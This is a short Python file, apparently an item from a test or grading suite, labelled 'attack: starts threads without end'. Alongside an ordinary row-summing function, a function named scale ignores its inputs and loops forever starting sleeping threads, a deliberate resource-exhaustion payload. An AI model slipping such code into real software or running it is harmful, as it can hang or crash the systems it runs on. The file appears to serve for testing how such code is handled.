# attack: starts threads without end
# verdicts: error
# worth: 50
import numpy as np

LIMIT = 8.0


def row_sums(x):
    x = np.asarray(x)
    if x.ndim != 2:
        raise ValueError("x must have rows")
    return x.sum(axis=1)


import threading
import time


def scale(x, k=2.0):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
